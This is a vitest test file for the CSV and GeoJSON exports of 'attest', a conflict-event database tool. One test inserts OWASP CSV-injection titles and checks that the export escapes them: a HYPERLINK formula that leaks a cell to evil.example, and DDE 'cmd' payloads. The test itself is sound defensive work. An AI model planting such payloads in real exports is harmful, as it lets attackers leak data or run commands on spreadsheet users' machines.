import { mkdtemp, readFile, rm } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exportFields } from '../src/db/event-export.js'
import { loadDemoData } from '../src/demo/load-demo.js'
import { acled } from '../src/import/acled.js'
import { gtd } from '../src/import/gtd.js'
import { importFile } from '../src/import/run-import.js'
import { projectRoot } from '../src/paths.js'
import { dataOf, startApi, type TestApi } from './support/api.js'
import { runCli } from './support/cli.js'
import { testDatabaseUrl, testDb } from './support/test-database.js'

const fixtures = path.join(projectRoot, 'test', 'fixtures')
let api: TestApi
let exportUrl: (format: string, filter?: unknown) => string

beforeAll(async () => {
  await loadDemoData(testDb())
  await importFile(testDb(), acled, {
    file: path.join(fixtures, 'acled-sample.csv'),
    release: 'fixture',
  })
  await importFile(testDb(), gtd, {
    file: path.join(fixtures, 'gtd-sample.csv'),
    release: 'fixture',
  })
  api = await startApi(testDatabaseUrl())
  exportUrl = (format, filter) =>
    `${api.url.replace('/graphql', `/export/events.${format}`)}${filter === undefined ? '' : `?filter=${encodeURIComponent(JSON.stringify(filter))}`}`
})
afterAll(() => api.stop())

type Row = Record<string, string>

async function exportCsv(args: string[] = []): Promise<Row[]> {
  const { code, stdout, stderr } = await runCli(['export', '--format', 'csv', ...args], {
    DATABASE_URL: testDatabaseUrl(),
  })
  expect(code, stderr).toBe(0)
  return parse(stdout, { columns: true, bom: true }) as Row[]
}

describe('attest export', () => {
  it('writes every event as CSV, oldest first, with consolidated figures and sources', async () => {
    const rows = await exportCsv()
    const { events } = dataOf(await api.query('{ events { totalCount } }'))
    expect(rows).toHaveLength(events.totalCount)
    expect(rows.map((row) => row.date_start)).toEqual(rows.map((row) => row.date_start).sort())
    const raid = rows.find(
      (row) => row.title === 'Two militants killed in counter-terrorism raid in Sidi Bouzid',
    )
    expect(raid).toMatchObject({
      date_start: '2019-01-03',
      country_code: 'TUN',
      killed_best: '2',
      injured_best: '1',
      event_types: 'ACLED:armed_clash Armed clash',
    })
    // The list starts with @, as a formula would: the cell begins with a single quote.
    expect(raid?.sources).toBe(
      "'@menastream; Reuters; The Defense Post; Tunisian Ministry of the Interior",
    )
    // The id leads back to the API.
    const { event } = dataOf(
      await api.query('query ($id: ID!) { event(id: $id) { title } }', { id: raid?.id }),
    )
    expect(event.title).toBe(raid?.title)
  })

  it('round-trips the ACLED and GTD fixtures: what was imported is what is exported', async () => {
    const rows = await exportCsv([
      '--filter',
      JSON.stringify({ dateRange: { from: '2018-01-01' } }),
    ])
    const byTitle = (title: string) => rows.find((row) => row.title === title)
    expect(
      byTitle('Armed clash: Military Forces of Tunisia (2011-) and Jund al-Khilafa in Sidi Bouzid'),
    ).toMatchObject({
      date_start: '2019-01-03',
      date_precision: 'DAY',
      country: 'Tunisia',
      place: 'Sidi Bouzid Ouest',
      latitude: '35.0382',
      longitude: '9.4849',
      killed_best: '2',
      sources: 'Armed Conflict Location & Event Data (ACLED); Mosaique FM; Reuters',
      actors: 'Military Forces of Tunisia (2011-) (PARTICIPANT); Jund al-Khilafa (PARTICIPANT)',
      // The dataset's own id, to check the event against it.
      dataset_ids: 'acled:TUN1001',
    })
    expect(byTitle('Hostage Taking (Kidnapping) in Ain Draham, Tunisia')).toMatchObject({
      date_start: '2018-12-15',
      killed_best: '1',
      tags: 'extended incident (more than 24 hours)',
      // GTD's spellings name groups already known (a shipped spelling; the demo's alias).
      actors: 'Jund al-Khilafa (PERPETRATOR); Katibat Uqbah Bin Nafi (PERPETRATOR)',
      dataset_ids: 'gtd:201812150004',
    })
    expect(byTitle('Facility/Infrastructure Attack, Tunisia')).toMatchObject({
      date_start: '2018-01-01',
      date_end: '2018-12-31',
      date_precision: 'YEAR',
      latitude: '',
    })
  })

  it('filters like the API, and refuses a bad filter naming the field', async () => {
    const { events } = dataOf(
      await api.query('{ events(filter: { search: "clash" }) { totalCount } }'),
    )
    expect(await exportCsv(['--filter', '{"search":"clash"}'])).toHaveLength(events.totalCount)
    const bad = await runCli(['export', '--format', 'csv', '--filter', '{"countries":["tun"]}'], {
      DATABASE_URL: testDatabaseUrl(),
    })
    expect(bad.code).toBe(1)
    expect(bad.stderr).toMatch(
      /^attest: filter\.countries\[0\]: Expected type "CountryCode"\. CountryCode must be an ISO 3166-1 alpha-3 code/m,
    )
    const format = await runCli(['export', '--format', 'kml'], { DATABASE_URL: testDatabaseUrl() })
    expect(format.code).not.toBe(0)
    expect(format.stderr).toMatch(/expected csv or geojson/)
  })

  it('writes to a file with --output', async () => {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'attest-export-'))
    try {
      const file = path.join(dir, 'events.geojson')
      const { code } = await runCli(['export', '--format', 'geojson', '--output', file], {
        DATABASE_URL: testDatabaseUrl(),
      })
      expect(code).toBe(0)
      expect(JSON.parse(await readFile(file, 'utf8')).type).toBe('FeatureCollection')
    } finally {
      await rm(dir, { recursive: true, force: true })
    }
  })
})

describe('the HTTP downloads', () => {
  it('serve valid GeoJSON (RFC 7946): points as [longitude, latitude], null geometry when unknown', async () => {
    const response = await fetch(exportUrl('geojson', { countries: ['TUN'] }))
    expect(response.headers.get('content-type')).toBe('application/geo+json')
    const collection = (await response.json()) as any
    const { events } = dataOf(
      await api.query('{ events(filter: { countries: ["TUN"] }) { totalCount } }'),
    )
    expect(collection.type).toBe('FeatureCollection')
    expect(collection.features).toHaveLength(events.totalCount)
    for (const feature of collection.features) {
      expect(feature.type).toBe('Feature')
      expect(typeof feature.properties).toBe('object')
      if (feature.geometry === null) continue
      expect(feature.geometry.type).toBe('Point')
      const [longitude, latitude] = feature.geometry.coordinates
      expect(feature.geometry.coordinates).toHaveLength(2)
      expect(Math.abs(longitude)).toBeLessThanOrEqual(180)
      expect(Math.abs(latitude)).toBeLessThanOrEqual(90)
      expect(latitude).toBe(feature.properties.latitude)
    }
    expect(collection.features.some((feature: any) => feature.geometry === null)).toBe(true)
    // The datasets' ids are properties as well.
    expect(collection.features.map((feature: any) => feature.properties.dataset_ids)).toContain(
      'acled:TUN1001',
    )
  })

  it('serve CSV as an attachment, and refuse a bad filter with 400', async () => {
    const response = await fetch(exportUrl('csv'))
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="events.csv"')
    expect((await response.text()).split('\n')[0]).toMatch(/^id,title,summary,date_start/)
    for (const [filter, message] of [
      [
        { dateRange: { from: '2020-01-01', to: '2019-01-01' } },
        /filter\.dateRange: from \(2020-01-01\) is after to/,
      ],
      [{ minKilled: -3 }, /filter\.minKilled/],
    ] as const) {
      const bad = await fetch(exportUrl('csv', filter))
      expect(bad.status).toBe(400)
      const body = (await bad.json()) as any
      expect(body).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'filter' })
      expect(body.error).toMatch(message)
    }
    const notJson = await fetch(`${exportUrl('csv')}?filter=%7Bnope`)
    expect(notJson.status).toBe(400)
  })
})

describe('exports for spreadsheets', () => {
  // Titles a spreadsheet would run as formulas if written as they are (OWASP's CSV injection).
  const formulas = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ]
  const filter = { search: 'spreadsheet' }

  beforeAll(async () => {
    await testDb()
      .insertInto('event')
      .values(
        formulas.map((title, index) => ({
          title,
          summary: 'spreadsheet probe',
          date_start: `1950-01-0${index + 1}`,
          date_end: `1950-01-0${index + 1}`,
          // West and south of Greenwich: negative numbers, which are numbers and not formulas.
          latitude: -33.5 - index,
          longitude: -70.25,
        })),
      )
      .execute()
  })

  async function download(query: string) {
    const response = await fetch(`${exportUrl('csv', filter)}&${query}`)
    expect(response.status).toBe(200)
    return Buffer.from(await response.arrayBuffer())
  }

  it('escape every cell that would start a formula, and leave negative numbers as numbers', async () => {
    const file = await download('')
    // As a spreadsheet reads the file: the BOM, then cells (quotes are syntax, not content).
    const cells = parse(file, { bom: true, relax_column_count: false }) as string[][]
    const [header, ...rows] = cells
    expect(rows).toHaveLength(formulas.length)
    for (const row of rows)
      for (const [index, cell] of row.entries()) {
        if (/^-\d+(\.\d+)?$/.test(cell)) {
          expect(['latitude', 'longitude']).toContain(header?.[index])
          continue
        }
        expect(cell, `${header?.[index]}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/)
      }
    const titles = rows.map((row) => row[header?.indexOf('title') ?? -1])
    expect(titles).toEqual(formulas.map((title) => `'${title}`))
    // The numbers are written bare: a spreadsheet reads them as numbers.
    expect(file.toString('utf8')).toContain(',-33.5,-70.25,')
  })

  it('begin CSV with a UTF-8 BOM unless asked not to', async () => {
    expect([...(await download('')).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect((await download('bom=false')).toString('utf8')).toMatch(/^id,title,/)
    const bad = await fetch(`${exportUrl('csv')}?bom=maybe`)
    expect(bad.status).toBe(400)
    expect(await bad.json()).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'bom' })
    const geojson = Buffer.from(await (await fetch(exportUrl('geojson'))).arrayBuffer())
    expect(geojson.toString('utf8', 0, 1)).toBe('{')
    const cli = await runCli(['export', '--format', 'csv', '--no-bom'], {
      DATABASE_URL: testDatabaseUrl(),
    })
    expect(cli.stdout).toMatch(/^id,title,/)
  })

  it('write timestamps in ISO 8601 and enums as the API spells them', async () => {
    const [row] = parse(await download('fields=id,date_precision,geo_precision,updated_at'), {
      bom: true,
      columns: true,
    }) as Row[]
    const { node } = dataOf(
      await api.query(
        'query ($id: ID!) { node(id: $id) { ... on Event { datePrecision geoPrecision updatedAt } } }',
        { id: row?.id },
      ),
    )
    expect(row).toEqual({
      id: row?.id,
      date_precision: node.datePrecision,
      geo_precision: node.geoPrecision ?? '',
      updated_at: node.updatedAt,
    })
    expect(row?.updated_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
    expect(row?.date_precision).toBe('DAY')
  })

  it('write the fields asked for, in that order, and refuse an unknown one by name', async () => {
    const fields = 'killed_best,title,id'
    const csv = (await download(`fields=${fields}&bom=false`)).toString('utf8')
    expect(csv.split('\n')[0]).toBe(fields)
    const geojson = (await (
      await fetch(`${exportUrl('geojson', filter)}&fields=${fields}`)
    ).json()) as any
    expect(Object.keys(geojson.features[0].properties)).toEqual(fields.split(','))
    expect(geojson.features[0].geometry.coordinates).toEqual([-70.25, expect.any(Number)])
    for (const [asked, message] of [
      ['title,fatalities', /fields: unknown field "fatalities"; the fields are id, title,/],
      ['title,,id', /a field name is empty/],
      ['title,title', /"title" is given twice/],
    ] as const) {
      const bad = await fetch(`${exportUrl('csv')}?fields=${encodeURIComponent(asked)}`)
      expect(bad.status).toBe(400)
      const body = (await bad.json()) as any
      expect(body).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'fields' })
      expect(body.error).toMatch(message)
    }
    const cli = await runCli(['export', '--format', 'csv', '--fields', 'title,nope'], {
      DATABASE_URL: testDatabaseUrl(),
    })
    expect(cli.code).toBe(1)
    expect(cli.stderr).toMatch(/^attest: fields: unknown field "nope"/m)
    const tunisia = await exportCsv([
      '--fields',
      'id,country_code',
      '--filter',
      '{"countries":["TUN"]}',
    ])
    expect(tunisia.length).toBeGreaterThan(0)
    for (const row of tunisia) expect(row).toEqual({ id: row.id, country_code: 'TUN' })
  })
})

it("docs/data.md's table of columns lists every export column, in order", async () => {
  const docs = await readFile(path.join(projectRoot, 'docs', 'data.md'), 'utf8')
  const table = docs.slice(docs.indexOf('| column '), docs.indexOf('**For spreadsheets.**'))
  const documented = table
    .split('\n')
    .slice(2)
    .flatMap((line) =>
      [...(line.split('|')[1] ?? '').matchAll(/`(\w+)`/g)].map((match) => match[1]),
    )
  expect(documented).toEqual(exportFields)
})
